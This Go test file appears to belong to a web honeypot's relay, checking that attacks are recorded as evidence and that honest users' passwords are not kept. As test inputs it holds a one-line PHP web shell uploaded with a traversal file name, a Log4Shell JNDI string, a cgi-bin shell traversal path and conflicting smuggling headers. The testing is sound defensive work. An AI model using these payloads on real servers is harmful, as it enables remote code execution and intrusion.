package web_test

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kokkuri/kokkuri/internal/event"
	"github.com/kokkuri/kokkuri/internal/honeypot/front/fronttest"
	"github.com/kokkuri/kokkuri/internal/honeypot/front/relay"
)

func TestWhoGetsIn(t *testing.T) {
	s := open(t, server(t))
	admin := "http://" + s.Address + "/admin/"
	try := func(account, password string, want int) {
		t.Helper()
		status, body := curl(t, admin, "--user", account+":"+password)
		require.Equal(t, want, status)
		assert.Equal(t, want == 200, strings.Contains(body, "Orders"))
	}
	status, _ := curl(t, admin)
	require.Equal(t, 401, status)
	for range 3 { // a client whose password is stale gets in never
		try("admin", "stale", 401)
	}
	try("root", right, 200) // the second distinct guess, whoever the site knows
	try("admin", "stale", 401)
	try("admin", own, 401)
	try("root", right, 200)
	assert.Equal(t, []string{
		"basic admin stale false", "basic admin stale false", "basic admin stale false", "basic root secret true", "basic admin stale false", "basic admin " + own + " false", "basic root secret true",
	}, guessed(s.Ended(t, 8)...))
}

// site is a server whose handler sees what arrives.
func site(t *testing.T, h http.HandlerFunc) string {
	t.Helper()
	s := httptest.NewServer(h)
	t.Cleanup(s.Close)
	return strings.TrimPrefix(s.URL, "http://")
}

// A form that logs in reaches the site with its own login, or with a password that is wrong, and everything else as it was.
func TestForms(t *testing.T) {
	got := make(chan url.Values, 10)
	s := open(t, site(t, func(w http.ResponseWriter, r *http.Request) {
		assert.NoError(t, r.ParseForm())
		got <- r.PostForm
		if r.PostForm.Get("pwd") != own {
			w.WriteHeader(http.StatusForbidden)
		}
	}))
	send := func(password string) (int, url.Values) {
		t.Helper()
		status, _ := curl(t, "http://"+s.Address+"/wp-login.php", "--data", "log=ad%6din&pwd="+password+"&wp-submit=Log+In&rememberme=a%26b")
		return status, <-got
	}
	status, form := send("stale")
	assert.Equal(t, 403, status)
	assert.NotContains(t, []string{"stale", own, ""}, form.Get("pwd"))
	status, form = send(url.QueryEscape("it's & 100 %"))
	assert.Equal(t, 200, status)
	assert.Equal(t, url.Values{"log": {"admin"}, "pwd": {own}, "wp-submit": {"Log In"}, "rememberme": {"a&b"}}, form)
	status, _ = curl(t, "http://"+s.Address+"/search", "--data", "q=user+pass")
	assert.Equal(t, 403, status)
	assert.Equal(t, url.Values{"q": {"user pass"}}, <-got, "a form that does not log in is none of the front's business")
	sessions := s.Ended(t, 3)
	assert.Equal(t, []string{"form admin stale false", "form admin it's & 100 % true"}, guessed(sessions...))
	assert.Equal(t, event.Bytes("log=ad%6din&pwd=stale&wp-submit=Log+In&rememberme=a%26b"), fronttest.Asked(sessions[0])[0].Args[len(fronttest.Asked(sessions[0])[0].Args)-1])
}

func TestRequestsAreEvidence(t *testing.T) {
	s := open(t, server(t))
	conn := s.Dial(t)
	_, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: \x1b[31m${jndi:ldap://x}\r\n\r\n"+
		"HEAD /large HTTP/1.1\r\nHost: a\r\n\r\n\r\nPOST /say/ HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n4;x=y\r\ndefg\r\n0\r\nT: v\r\n\r\n"+
		"GET /cgi-bin/%2e%2e/bin/sh HTTP/1.1\nHost: a\nConnection: close\n\n")
	require.NoError(t, err)
	require.NoError(t, conn.SetReadDeadline(time.Now().Add(time.Minute)))
	answers, err := io.ReadAll(conn)
	require.NoError(t, err)
	require.Equal(t, 4, bytes.Count(answers, []byte("HTTP/1.1 ")), "%s", answers)
	require.NoError(t, conn.Close())
	got := fronttest.Asked(s.Ended(t, 1)[0])
	require.Len(t, got, 4)
	assert.Equal(t, []event.Bytes{"GET / HTTP/1.1", "Host: a", "User-Agent: \x1b[31m${jndi:ldap://x}"}, got[0].Args)
	assert.Equal(t, event.Bytes("HTTP/1.1 200 OK"), got[0].Answer)
	assert.Equal(t, event.Bytes("HEAD /large HTTP/1.1"), got[1].Args[0])
	assert.Less(t, got[1].Answered, int64(1000))
	assert.Equal(t, []event.Bytes{"POST /say/ HTTP/1.1", "Host: a", "Transfer-Encoding: chunked", "", "abcdefg"}, got[2].Args)
	assert.Equal(t, event.Bytes("GET /cgi-bin/%2e%2e/bin/sh HTTP/1.1"), got[3].Args[0])
	assert.True(t, got[3].Failed)
	assert.Equal(t, event.Bytes("HTTP/1.1 404 Not Found"), got[3].Answer)
}

// What servers don't agree about, or is no HTTP, passes as it is: the server answers.
func TestWhatIsNoRequest(t *testing.T) {
	address := server(t)
	s := open(t, address)
	for i, said := range []string{
		"GET /\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "\x15\x03\x01\x00\x05", "GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
		"POST /say/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", "GET / HTTP/1.1\r\nContent-Length: -1\r\n\r\n", strings.Repeat("A", 100_000) + "\r\n\r\n",
	} {
		answer := func(address string) string {
			conn := s.DialTo(t, address)
			_, _ = io.WriteString(conn, said)
			require.NoError(t, conn.SetReadDeadline(time.Now().Add(time.Minute)))
			all, _ := io.ReadAll(conn)
			_ = conn.Close()
			return undated(all)
		}
		assert.Equal(t, answer(address), answer(s.Address), "%.60q", said)
		s.Ended(t, i+1)
	}
}

func undated(b []byte) string {
	lines := strings.SplitAfter(string(b), "\n")
	for i, l := range lines {
		if strings.HasPrefix(l, "Date: ") || strings.HasPrefix(l, "Last-Modified: ") {
			lines[i] = l[:6] + "\n"
		}
	}
	return strings.Join(lines, "")
}

func TestUploads(t *testing.T) {
	received := make(chan string, 1)
	s := open(t, site(t, func(w http.ResponseWriter, r *http.Request) {
		f, _, err := r.FormFile("file")
		if !assert.NoError(t, err) {
			return
		}
		data, _ := io.ReadAll(f)
		received <- string(data)
		w.WriteHeader(http.StatusCreated)
	}))
	shell := "<?php system($_GET['c']); ?>\n" + strings.Repeat("x", 200_000)
	for _, chunked := range []bool{false, true} {
		var b bytes.Buffer
		w := multipart.NewWriter(&b)
		require.NoError(t, w.WriteField("MAX_FILE_SIZE", "1000"))
		part, err := w.CreateFormFile("file", "../shell.php")
		require.NoError(t, err)
		_, _ = io.WriteString(part, shell)
		require.NoError(t, w.Close())
		var reader io.Reader = &b
		if chunked {
			reader = io.MultiReader(&b)
		}
		req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "http://"+s.Address+"/upload.php", reader)
		require.NoError(t, err)
		req.Header.Set("Content-Type", w.FormDataContentType())
		req.Close = true
		resp, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		require.NoError(t, resp.Body.Close())
		assert.Equal(t, 201, resp.StatusCode)
		assert.Len(t, <-received, len(shell))
	}
	sum := sha256.Sum256([]byte(shell))
	for _, session := range s.Ended(t, 2) {
		var files []event.File
		for _, e := range session.Evidence {
			if e.File != nil {
				files = append(files, *e.File)
			}
		}
		assert.Equal(t, []event.File{{How: "form", Path: "../shell.php", SHA256: hex.EncodeToString(sum[:]), Size: int64(len(shell))}}, files)
	}
}

// A body that is a file is kept whole, also where it does not come whole.
func TestBodiesAreFiles(t *testing.T) {
	s := open(t, server(t))
	file := filepath.Join(t.TempDir(), "miner")
	content := []byte("\x7fELF" + strings.Repeat("\x00", 300_000))
	require.NoError(t, os.WriteFile(file, content, 0o600))
	status, _ := curl(t, "http://"+s.Address+"/put/miner", "--upload-file", file)
	require.Equal(t, 201, status)
	conn := s.Dial(t)
	_, err := fmt.Fprintf(conn, "PUT /put/half HTTP/1.1\r\nHost: a\r\nContent-Length: 400000\r\n\r\n%s", content)
	require.NoError(t, err)
	require.NoError(t, conn.Close())
	want := sha256.Sum256(content)
	for i, session := range s.Ended(t, 2) {
		var found *event.File
		for _, e := range session.Evidence {
			if e.File != nil {
				found = e.File
			}
		}
		require.NotNil(t, found)
		assert.Equal(t, event.File{How: "body", Path: found.Path, SHA256: hex.EncodeToString(want[:]), Size: int64(len(content)), Partial: i == 1}, *found)
	}
}

func TestTLSEndsHere(t *testing.T) {
	s := open(t, server(t))
	status, _ := curl(t, "https://"+s.Address+"/admin/", "--insecure", "--user", "admin:wrong")
	assert.Equal(t, 401, status)
	status, body := curl(t, "https://"+s.Address+"/admin/", "--insecure", "--user", "admin:"+right)
	assert.Equal(t, 200, status)
	assert.Contains(t, body, "Orders")
	sessions := s.Ended(t, 2)
	var client *event.Client
	for _, e := range sessions[0].Evidence {
		if e.Client != nil {
			client = e.Client
		}
	}
	require.NotNil(t, client)
	assert.Regexp(t, `^t13i\d\d\d\dh[12]_`, client.JA4)
	require.Len(t, fronttest.Asked(sessions[0]), 1)
	conn := s.Dial(t)
	_, err := io.WriteString(conn, "\x16 this is no TLS\r\n\r\n")
	require.NoError(t, err)
	require.NoError(t, conn.SetReadDeadline(time.Now().Add(time.Minute)))
	_, _ = io.Copy(io.Discard, conn)
	require.NoError(t, conn.Close())
	assert.Equal(t, relay.AttackerClosed, s.Ended(t, 3)[2].Reason)
}

// After a change of protocols all passes, in both directions.
func TestWebSocket(t *testing.T) {
	s := open(t, site(t, func(w http.ResponseWriter, r *http.Request) {
		conn, rw, err := http.NewResponseController(w).Hijack()
		if !assert.NoError(t, err) {
			return
		}
		defer conn.Close() //nolint:errcheck // a test's connection
		_, _ = io.WriteString(conn, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: "+r.Header.Get("Upgrade")+"\r\nConnection: Upgrade\r\n\r\n")
		_, _ = io.Copy(conn, rw)
	}))
	conn := s.Dial(t)
	_, err := io.WriteString(conn, "GET /socket HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n\r\n")
	require.NoError(t, err)
	require.NoError(t, conn.SetReadDeadline(time.Now().Add(time.Minute)))
	r := bufio.NewReader(conn)
	resp, err := http.ReadResponse(r, nil)
	require.NoError(t, err)
	require.NoError(t, resp.Body.Close())
	require.Equal(t, 101, resp.StatusCode)
	const frame = "\x81\x85abcd\x00\x01\x02\x03\x04GET / HTTP/1.1\r\n\r\n"
	_, err = io.WriteString(conn, frame)
	require.NoError(t, err)
	got := make([]byte, len(frame))
	_, err = io.ReadFull(r, got)
	require.NoError(t, err)
	assert.Equal(t, frame, string(got))
	require.NoError(t, conn.Close())
	requests := fronttest.Asked(s.Ended(t, 1)[0])
	require.Len(t, requests, 1)
	assert.Equal(t, event.Bytes("HTTP/1.1 101 Switching Protocols"), requests[0].Answer)
}

// No password of somebody who may be honest is kept, however it came.
func TestPasswordsOfTheHonest(t *testing.T) {
	s := open(t, site(t, func(_ http.ResponseWriter, r *http.Request) { _, _ = io.Copy(io.Discard, r.Body) }), fronttest.Known)
	const password = "do-not-keep-me"
	curl(t, "http://"+s.Address+"/", "--user", "me:"+password)
	curl(t, "http://"+s.Address+"/", "--data", "user=me&password="+password)
	curl(t, "http://"+s.Address+"/", "--data", "user=me&password="+password, "--header", "Transfer-Encoding: chunked")
	curl(t, "http://"+s.Address+"/", "--data", "user=me&password="+password, "--header", "Expect: 100-continue")
	curl(t, "http://"+s.Address+"/", "--data", "user=me&password="+password+strings.Repeat("&a=b", 20_000))
	sessions := s.Ended(t, 5)
	assert.Equal(t, []string{"basic me " + fronttest.Hashed + " false", "form me " + fronttest.Hashed + " false"}, guessed(sessions...))
	for i, session := range sessions {
		data, err := os.ReadFile(session.Recording)
		require.NoError(t, err)
		assert.False(t, bytes.Contains(data, []byte(password)), i)
		assert.False(t, bytes.Contains(data, []byte("bWU6ZG8tbm90LWtlZXAtbWU")), i)
	}
}

func TestTenThousandGarbageConnections(t *testing.T) {
	fronttest.Garbage(t, open(t, server(t)),
		"\x00", "GET / HTTP/1.1\r\nHost: x\r\n\r\n", "GET /", "\x16\x03\x01", "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 50\r\n\r\n",
		"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\n", "POST / HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=a\r\nContent-Length: 100\r\n\r\n--a\r\n",
		"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 40\r\n\r\nuser=a&password=b&")
}

// Who is silent, or asks byte by byte, is cut off by the pot's server as by any.
func TestSlowRequestEndsWhenTheServersPatienceDoes(t *testing.T) {
	s := open(t, server(t, "client_header_timeout 1s; client_body_timeout 1s;"))
	for _, says := range []string{"", "GET / HTTP/1.1\r\nHo", "POST /say/ HTTP/1.1\r\nHost: a\r\nContent-Length: 9\r\n\r\nabc"} {
		conn := s.Dial(t)
		_, err := io.WriteString(conn, says)
		require.NoError(t, err)
		require.NoError(t, conn.SetReadDeadline(time.Now().Add(time.Minute)))
		_, err = io.Copy(io.Discard, conn)
		require.NoError(t, err)
		require.NoError(t, conn.Close())
	}
	for _, session := range s.Ended(t, 3) {
		assert.Equal(t, relay.PotClosed, session.Reason)
	}
}

// A request of 1 GiB passes, and takes no more memory than a small one.
func TestVeryLargeRequest(t *testing.T) {
	s := open(t, server(t))
	const size = 1 << 30
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPut, "http://"+s.Address+"/put/large", io.LimitReader(zeros{}, size))
	require.NoError(t, err)
	req.ContentLength, req.Close = size, true
	before := fronttest.Held()
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	require.NoError(t, resp.Body.Close())
	assert.Equal(t, 201, resp.StatusCode)
	session := s.Ended(t, 1)[0]
	assert.Less(t, fronttest.Held(), before+(16<<20))
	assert.Greater(t, fronttest.Asked(session)[0].Size, int64(size))
	assert.True(t, fronttest.Asked(session)[0].Truncated)
}

type zeros struct{}

// Read implements io.Reader.
func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }
